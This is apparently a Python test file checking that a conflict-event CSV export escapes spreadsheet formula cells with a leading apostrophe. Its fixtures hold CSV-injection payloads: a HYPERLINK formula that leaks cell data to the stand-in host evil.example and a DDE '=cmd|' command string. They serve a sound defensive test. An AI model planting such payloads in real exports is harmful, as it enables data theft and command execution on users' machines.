"""Cells a spreadsheet would execute are written as text (OWASP's rule: a leading ')."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from marsad.export.acled import acled_csv, spreadsheet_safe
from marsad.store import Store
from marsad.types import ActorRef, Document, Event, PlaceRef, Span, When, content_hash

HOSTILE_SOURCE = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
HOSTILE_TEXT = "=cmd|' /C calc'!A0 gunmen attacked a checkpoint in Kirkuk."


def _store_hostile(store: Store) -> None:
    text = HOSTILE_TEXT
    document = Document(
        id=Document.make_id(content_hash(text)),
        url="https://wire.example/hostile",
        source=HOSTILE_SOURCE,
        title="@SUM(1+1)*cmd|' /C calc'!A0",
        published=date(2024, 1, 2),
        lang="en",
        text=text,
        raw_format="text",
        fetched_at=datetime(2024, 1, 2, tzinfo=UTC),
        content_hash=content_hash(text),
        origin="hostile.txt",
    )
    event = Event(
        kind="incident",
        category="ASSAULT",
        mode="firearms",
        acled_type="Battles",
        acled_subtype="Armed clash",
        actors=(ActorRef("-gunmen+"),),
        recipients=(ActorRef("+a checkpoint"),),
        where=PlaceRef("Kirkuk", "kirkuk", "Kirkuk", 35.47, -44.39, "Kirkuk", "IQ", "city"),
        when=When(date(2024, 1, 1), None, "day"),
        evidence=Span(0, len(text), text),
    )
    store.save(document, [event])


def test_formula_cells_are_escaped_and_numbers_kept(tmp_path) -> None:
    with Store.open(f"sqlite:///{tmp_path / 'marsad.db'}") as store:
        _store_hostile(store)
        data = b"".join(acled_csv(store.iter_events())).decode("utf-8")
    (row,) = list(csv.DictReader(io.StringIO(data)))
    assert row["source"] == "'" + HOSTILE_SOURCE
    assert row["notes"].startswith("'=cmd|")
    assert row["actor1"].startswith("'-") and row["actor2"].startswith("'+")
    assert float(row["longitude"]) == -44.39  # a negative number is a number, not a formula
    risky = [v for v in row.values() if v and v[0] in "=+-@\t\r" and v != row["longitude"]]
    assert risky == []


def test_the_rule_itself() -> None:
    assert spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_safe("\tcmd") == "'\tcmd"
    assert spreadsheet_safe("Baghdad") == "Baghdad"
    assert spreadsheet_safe(-3.5) == -3.5
    assert spreadsheet_safe(None) is None
